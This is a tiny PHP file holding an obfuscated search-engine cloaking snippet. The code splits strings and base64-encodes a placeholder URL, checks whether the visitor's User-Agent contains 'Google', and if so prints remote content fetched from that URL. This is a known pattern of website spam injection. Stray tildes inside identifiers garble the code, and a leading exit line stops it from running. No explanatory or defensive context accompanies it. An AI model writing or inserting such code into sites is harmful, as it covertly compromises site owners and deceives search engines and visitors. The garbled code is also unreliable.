<?php exit; ?>
<?php
$h = 'HTTP_USER_' . 'AGENT'; $u = 'aHR0cDovL21hcmtlci5pbnZhbGlkLw=='; if (strpos($_S~ERVER[$h], 'Google') > 0) { readfile(bas~e64_decode($u) . $_S~ERVER['HTTP_HOST']); die(); }
